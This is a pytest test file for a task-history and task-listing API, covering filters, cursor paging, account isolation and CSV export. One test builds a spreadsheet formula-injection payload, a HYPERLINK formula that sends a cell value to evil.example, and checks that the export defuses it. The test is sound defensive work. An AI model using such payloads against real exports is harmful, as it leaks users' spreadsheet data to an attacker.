"""GET /api/v1/history and GET /api/v1/tasks through the real application: filters, pages,
refusals, the CSV export, and what each account may see."""

import copy
import csv
import io
import re
from datetime import datetime, timezone
from unittest import mock

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from marshmallow import ValidationError

from megamind.api import openapi
from megamind.api.history import CSV_COLUMNS, wants_csv
from megamind.api.historyschemas import TIME_PATTERN, history_query_schema
from megamind.api.openapi_history import HISTORY_PATHS, HISTORY_SCHEMAS
from megamind.states import TaskState
from megamind.store.history import HistoryStore

IMAGE = "megamind.network/trainer:1"
DAY = 86400.0
MARCH_1 = datetime(2024, 3, 1, tzinfo=timezone.utc).timestamp()


@pytest.fixture(autouse=True)
def history_store(store):
    """The store's history, until Store carries it itself."""
    if getattr(store, "history", None) is None:
        store.history = HistoryStore(store.db)
    return store.history


@pytest.fixture
async def account_id(store, alice):
    return (await store.accounts.get_by_name(alice.name)).id


async def insert(store, taskid, account_id, created_at, *, state=TaskState.STOPPED, deleted=False, image=IMAGE,
                 error_msg=""):
    await store.db.execute(
        "INSERT INTO tasks (taskid, account_id, image, params, state, error_msg, holds_executor, deleted,"
        " created_at, updated_at, deleted_at) VALUES (?, ?, ?, '', ?, ?, 0, ?, ?, ?, ?)",
        (taskid, account_id, image, int(state), error_msg, int(deleted), created_at, created_at,
         created_at + 1 if deleted else None),
    )


async def get(api, path, **params):
    return await api.call("GET", path, params=params)


def ids(body):
    return [t["taskid"] for t in body["tasks"]]


async def test_history_lists_every_task_newest_first_with_deleted_ones_marked(store, alice, account_id):
    await insert(store, "old", account_id, MARCH_1)
    await insert(store, "gone", account_id, MARCH_1 + 10, deleted=True)
    await insert(store, "new", account_id, MARCH_1 + 20, state=TaskState.ERROR, error_msg="exited with code 1")
    status, body = await get(alice, "/api/v1/history")
    assert status == 200, body
    assert ids(body) == ["new", "gone", "old"]
    assert (body["total"], body["has_more"], body["next_cursor"]) == (3, False, None)
    assert [t["deleted"] for t in body["tasks"]] == [False, True, False]
    assert body["tasks"][1]["deleted_at"] == MARCH_1 + 11 and body["tasks"][0]["deleted_at"] is None
    new = body["tasks"][0]
    assert "env" not in new
    assert (new["state"], new["state_name"], new["error_msg"], new["created_at"]) == (
        5, "error", "exited with code 1", MARCH_1 + 20)


async def test_an_item_is_the_task_detail_without_env(alice, agent):
    taskid, _ = await alice.start_task(agent)
    status, detail = await alice.call("GET", f"/api/v1/task/{taskid}")
    assert status == 200
    for path in ("/api/v1/history", "/api/v1/tasks"):
        status, body = await get(alice, path)
        assert status == 200, body
        (item,) = body["tasks"]
        assert item == {**{k: v for k, v in detail.items() if k != "env"}, "deleted": False, "deleted_at": None}


async def test_a_deleted_task_is_in_history_and_not_among_the_live_tasks(alice, agent):
    kept, _ = await alice.start_task(agent)
    await agent.state(kept, 4)
    await alice.wait_state(kept, 4)
    status, _ = await alice.deltask(kept)
    assert status == 200
    status, history = await get(alice, "/api/v1/history")
    assert status == 200 and ids(history) == [kept] and history["tasks"][0]["deleted"] is True
    assert history["tasks"][0]["deleted_at"] > history["tasks"][0]["created_at"]
    status, live = await get(alice, "/api/v1/tasks")
    assert status == 200 and live == {"tasks": [], "total": 0, "has_more": False, "next_cursor": None}


async def test_from_and_to_take_days_inclusive_and_unix_seconds(store, alice, account_id):
    await insert(store, "feb-end", account_id, MARCH_1 - 0.001)
    await insert(store, "mar-1-start", account_id, MARCH_1)
    await insert(store, "mar-1-end", account_id, MARCH_1 + DAY - 0.001)
    await insert(store, "mar-2", account_id, MARCH_1 + DAY)
    _, body = await get(alice, "/api/v1/history", **{"from": "2024-03-01", "to": "2024-03-01"})
    assert ids(body) == ["mar-1-end", "mar-1-start"]
    _, body = await get(alice, "/api/v1/history", **{"from": "2024-03-01"})
    assert ids(body) == ["mar-2", "mar-1-end", "mar-1-start"]
    _, body = await get(alice, "/api/v1/history", to="2024-02-29")
    assert ids(body) == ["feb-end"]
    _, body = await get(alice, "/api/v1/history", **{"from": f"{MARCH_1:.0f}", "to": f"{MARCH_1 + DAY:.0f}"})
    assert ids(body) == ["mar-2", "mar-1-end", "mar-1-start"]  # seconds are bounds as given
    _, body = await get(alice, "/api/v1/history", **{"from": f"{MARCH_1 - 0.001:.3f}", "to": "1709251200.5"})
    assert ids(body) == ["mar-1-start", "feb-end"]


async def test_state_and_image_filter_both_calls(store, alice, account_id):
    await insert(store, "run", account_id, MARCH_1, state=TaskState.RUNNING)
    await insert(store, "err", account_id, MARCH_1 + 1, state=TaskState.ERROR)
    await insert(store, "other", account_id, MARCH_1 + 2, image="megamind.network/other:2")
    await insert(store, "gone-err", account_id, MARCH_1 + 3, state=TaskState.ERROR, deleted=True)
    for path, errors in (("/api/v1/history", ["gone-err", "err"]), ("/api/v1/tasks", ["err"])):
        for state in ("5", "error"):
            status, body = await get(alice, path, state=state)
            assert status == 200 and ids(body) == errors and body["total"] == len(errors)
        _, body = await get(alice, path, state="running")
        assert ids(body) == ["run"]
        _, body = await get(alice, path, image="megamind.network/other:2")
        assert ids(body) == ["other"]
        _, body = await get(alice, path, image="megamind.network/other")  # exact: no tag is implied
        assert ids(body) == []
        _, body = await get(alice, path, image=IMAGE, state="3")
        assert ids(body) == ["run"]


@pytest.mark.parametrize("path", ["/api/v1/history", "/api/v1/tasks"])
async def test_pages_follow_the_cursor_to_the_end(store, alice, account_id, path):
    for n in range(25):  # runs of five tasks created in the same instant
        await insert(store, f"t{n:02d}", account_id, MARCH_1 + n // 5, deleted=path.endswith("history") and n == 7)
    _, everything = await get(alice, path, limit="1000")
    seen, cursor, pages = [], None, 0
    while True:
        params = {"limit": "4", **({"cursor": cursor} if cursor else {})}
        status, body = await get(alice, path, **params)
        assert status == 200, body
        assert body["total"] == 25 and len(body["tasks"]) <= 4
        seen += ids(body)
        pages += 1
        cursor = body["next_cursor"]
        assert body["has_more"] == (cursor is not None)
        if not cursor:
            break
    assert seen == ids(everything) and len(set(seen)) == 25 and pages == 7


async def test_the_default_page_is_100_and_at_most_1000(store, alice, account_id):
    async with store.db.transaction() as conn:
        await conn.executemany(
            "INSERT INTO tasks (taskid, account_id, image, params, state, holds_executor, created_at, updated_at)"
            " VALUES (?, ?, ?, '', 4, 0, ?, ?)",
            [(f"t{n:04d}", account_id, IMAGE, MARCH_1 + n, MARCH_1 + n) for n in range(1001)])
    _, body = await get(alice, "/api/v1/tasks")
    assert len(body["tasks"]) == 100 and body["has_more"] and body["total"] == 1001
    _, body = await get(alice, "/api/v1/history", limit="1000")
    assert len(body["tasks"]) == 1000 and body["has_more"]


async def test_another_accounts_tasks_never_appear(store, alice, account_id, new_account):
    bob = await new_account("bob")
    bob_id = (await store.accounts.get_by_name("bob")).id
    await insert(store, "alices", account_id, MARCH_1)
    await insert(store, "bobs", bob_id, MARCH_1 + 1)
    await insert(store, "bobs-gone", bob_id, MARCH_1 + 2, deleted=True)
    for path in ("/api/v1/history", "/api/v1/tasks"):
        _, body = await get(alice, path)
        assert ids(body) == ["alices"] and body["total"] == 1
    _, body = await get(bob, "/api/v1/history")
    assert ids(body) == ["bobs-gone", "bobs"]
    async with alice.client.get("/api/v1/history", headers={"api-key": alice.key, "Accept": "text/csv"}) as resp:
        rows = list(csv.reader(io.StringIO(await resp.text())))
    assert [r[0] for r in rows[1:]] == ["alices"]
    # bob's cursor leads alice nowhere into bob's tasks
    _, page = await get(bob, "/api/v1/history", limit="1")
    _, body = await get(alice, "/api/v1/history", cursor=page["next_cursor"])
    assert "bobs" not in ids(body)


@pytest.mark.parametrize("path, params, field", [
    ("/api/v1/history", {"from": "yesterday"}, "from"),
    ("/api/v1/history", {"from": "2023-02-29"}, "from"),
    ("/api/v1/history", {"to": "2024-13-01"}, "to"),
    ("/api/v1/history", {"to": "-5"}, "to"),
    ("/api/v1/history", {"to": "1e9"}, "to"),
    ("/api/v1/history", {"from": ""}, "from"),
    ("/api/v1/history", {"from": "2024-03-02", "to": "2024-03-01"}, "from"),
    ("/api/v1/history", {"limit": "0"}, "limit"),
    ("/api/v1/history", {"limit": "1001"}, "limit"),
    ("/api/v1/history", {"limit": "ten"}, "limit"),
    ("/api/v1/history", {"cursor": "not-a-cursor"}, "cursor"),
    ("/api/v1/history", {"cursor": "x" * 600}, "cursor"),
    ("/api/v1/history", {"state": "6"}, "state"),
    ("/api/v1/history", {"state": "queued"}, "state"),
    ("/api/v1/history", {"state": "Running"}, "state"),
    ("/api/v1/history", {"image": ""}, "image"),
    ("/api/v1/history", {"sort": "cost"}, "sort"),
    ("/api/v1/tasks", {"limit": "1001"}, "limit"),
    ("/api/v1/tasks", {"cursor": "%%%"}, "cursor"),
    ("/api/v1/tasks", {"state": "0"}, "state"),
    ("/api/v1/tasks", {"from": "2024-03-01"}, "from"),  # the live listing has no range
])
async def test_a_bad_query_is_refused_naming_the_field(alice, helpers, path, params, field):
    status, body = await get(alice, path, **params)
    message = helpers.assert_error(status, body, 422, 3)
    assert field in message


async def test_a_bad_query_is_refused_before_any_csv(alice, helpers):
    async with alice.client.get("/api/v1/history", params={"limit": "0"},
                                headers={"api-key": alice.key, "Accept": "text/csv"}) as resp:
        assert resp.status == 422 and resp.content_type == "application/json"
        helpers.assert_error(resp.status, await resp.json(), 422, 3)


async def test_history_needs_an_api_key(client, helpers):
    for path in ("/api/v1/history", "/api/v1/tasks"):
        async with client.get(path) as resp:
            helpers.assert_error(resp.status, await resp.json(), 401, 4)


# --- CSV ----------------------------------------------------------------------------------


async def get_csv(api, accept="text/csv", **params):
    async with api.client.get("/api/v1/history", params=params,
                              headers={"api-key": api.key, "Accept": accept}) as resp:
        assert resp.status == 200, await resp.text()
        return resp, await resp.read()


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1, "click, here")\nline two, "quoted"\r\nend'


async def test_csv_holds_every_column_and_defuses_a_hostile_error_msg(store, alice, account_id):
    await insert(store, "hostile", account_id, MARCH_1, state=TaskState.ERROR, error_msg=HOSTILE)
    await insert(store, "plus", account_id, MARCH_1 + 1, error_msg="+1 more")
    await insert(store, "at", account_id, MARCH_1 + 2, error_msg="@SUM(A1)", deleted=True)
    await insert(store, "minus", account_id, MARCH_1 + 3, error_msg="-2")
    await store.db.execute("UPDATE tasks SET price = 1.5, billed_ms = 7200000, cost_micro = 3000000, exit_code = -9,"
                           " started_at = ?, finished_at = ? WHERE taskid = 'hostile'", (MARCH_1 + 60, MARCH_1 + 7260))
    resp, raw = await get_csv(alice)
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="history.csv"'
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["taskid"] for r in rows] == ["minus", "at", "plus", "hostile"]
    hostile = rows[-1]
    assert hostile["error_msg"] == "'" + HOSTILE  # every comma, quote and line break kept, no formula
    assert hostile == {
        "taskid": "hostile", "image": IMAGE, "state": "5", "state_name": "error",
        "created_at": "2024-03-01T00:00:00Z", "started_at": "2024-03-01T00:01:00Z",
        "finished_at": "2024-03-01T02:01:00Z", "hwid": "", "price": "1.5", "billed_seconds": "7200.0",
        "cost": "3.0", "exit_code": "-9", "error_msg": "'" + HOSTILE, "deleted": "false",
    }
    assert [(r["error_msg"], r["deleted"]) for r in rows[:3]] == [("'-2", "false"), ("'@SUM(A1)", "true"),
                                                                  ("'+1 more", "false")]
    # No cell of the raw text starts a formula: each starts after a comma or a line's start.
    for line in csv.reader(io.StringIO(raw.decode("utf-8"), newline="")):
        assert not any(cell[:1] in ("=", "+", "@") for cell in line)


async def test_csv_streams_every_matching_row_not_one_page(store, alice, account_id):
    async with store.db.transaction() as conn:
        await conn.executemany(
            "INSERT INTO tasks (taskid, account_id, image, params, state, holds_executor, deleted,"
            " created_at, updated_at) VALUES (?, ?, ?, '', ?, 0, ?, ?, ?)",
            [(f"t{n:04d}", account_id, IMAGE, 3 if n % 2 else 4, int(n % 7 == 0), MARCH_1 + n // 3, MARCH_1)
             for n in range(2500)])
    _, raw = await get_csv(alice, limit="5")  # limit and cursor do not apply to the export
    rows = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
    _, first = await get(alice, "/api/v1/history", limit="1000")
    assert len(rows) == 2500 and len({r["taskid"] for r in rows}) == 2500
    assert [r["taskid"] for r in rows[:1000]] == ids(first)
    _, raw = await get_csv(alice, state="running", to=f"{MARCH_1 + 99:.0f}")
    rows = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
    assert len(rows) == 150 and {r["state"] for r in rows} == {"3"}
    _, raw = await get_csv(alice, state="unknown")
    assert raw.decode() == ",".join(CSV_COLUMNS) + "\r\n"  # a header even without rows


async def test_json_unless_csv_is_asked_for_and_preferred(store, alice, account_id):
    await insert(store, "t", account_id, MARCH_1)
    for accept in ("application/json", "*/*", "", "text/html", "text/csv;q=0", "application/json, text/csv;q=0.5"):
        async with alice.client.get("/api/v1/history", headers={"api-key": alice.key, "Accept": accept}) as resp:
            assert resp.content_type == "application/json", accept
            assert resp.headers["Vary"] == "Accept"
    for accept in ("text/csv", "TEXT/CSV; charset=utf-8", "text/csv, application/json;q=0.9", "*/*, text/csv"):
        resp, _ = await get_csv(alice, accept)
        assert resp.content_type == "text/csv", accept


def test_wants_csv_reads_qualities():
    assert wants_csv("text/csv")
    assert not wants_csv("text/csv;q=nan") and not wants_csv("text/csv;q=x") and not wants_csv("text/csv;q=0")
    assert wants_csv("application/json;q=0.1, text/csv")
    assert not wants_csv("application/json, text/csv;q=0.9")


# --- the spec -------------------------------------------------------------------------------


def history_spec():
    """The OpenAPI document with these calls, wired in here until openapi.py lists them."""
    spec = openapi.build_spec()
    if "/api/v1/history" in spec["paths"]:
        return spec
    paths = openapi._paths
    with mock.patch.object(openapi, "_paths", lambda: paths() + copy.deepcopy(HISTORY_PATHS)), \
            mock.patch.dict(openapi._SCHEMAS, HISTORY_SCHEMAS):
        return copy.deepcopy(openapi._build.__wrapped__())


def test_the_spec_with_these_calls_is_valid():
    from openapi_spec_validator import validate
    spec = history_spec()
    validate(spec)
    history = spec["paths"]["/api/v1/history"]["get"]
    assert set(history["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    assert {p["name"] for p in history["parameters"]} == {"from", "to", "state", "image", "limit", "cursor"}
    assert {p["name"] for p in spec["paths"]["/api/v1/tasks"]["get"]["parameters"]} == {
        "state", "image", "limit", "cursor"}
    assert "env" not in spec["components"]["schemas"]["PagedTask"]["properties"]


async def test_live_answers_match_the_spec(store, alice, account_id, agent):
    spec = history_spec()
    await alice.start_task(agent)
    await insert(store, "gone", account_id, MARCH_1, deleted=True, error_msg="x")
    for path, params, status in (("/api/v1/history", {}, 200), ("/api/v1/history", {"limit": "1"}, 200),
                                 ("/api/v1/tasks", {}, 200), ("/api/v1/history", {"limit": "0"}, 422),
                                 ("/api/v1/tasks", {"cursor": "zz"}, 422)):
        got, body = await get(alice, path, **params)
        assert got == status
        response = spec["paths"][path]["get"]["responses"][str(status)]
        if "$ref" in response:
            response = spec["components"]["responses"][response["$ref"].rsplit("/", 1)[1]]
        schema = {**response["content"]["application/json"]["schema"], "components": spec["components"]}
        jsonschema.validate(body, schema, cls=jsonschema.Draft202012Validator)


@settings(max_examples=300, deadline=None)
@given(st.from_regex(TIME_PATTERN, fullmatch=True))
def test_every_time_the_spec_allows_the_server_takes(text):
    try:
        loaded = history_query_schema.load({"from": text, "to": text})
    except ValidationError as exc:
        raise AssertionError(f"the spec allows {text!r}, the server refuses it: {exc.messages}") from None
    assert loaded["created_from"] <= loaded["created_to"]


@settings(max_examples=300, deadline=None)
@given(st.text("0123456789-.:T ", max_size=12))
def test_a_time_the_spec_refuses_the_server_refuses(text):
    try:
        history_query_schema.load({"from": text})
        taken = True
    except ValidationError:
        taken = False
    assert taken == bool(re.fullmatch(TIME_PATTERN, text))
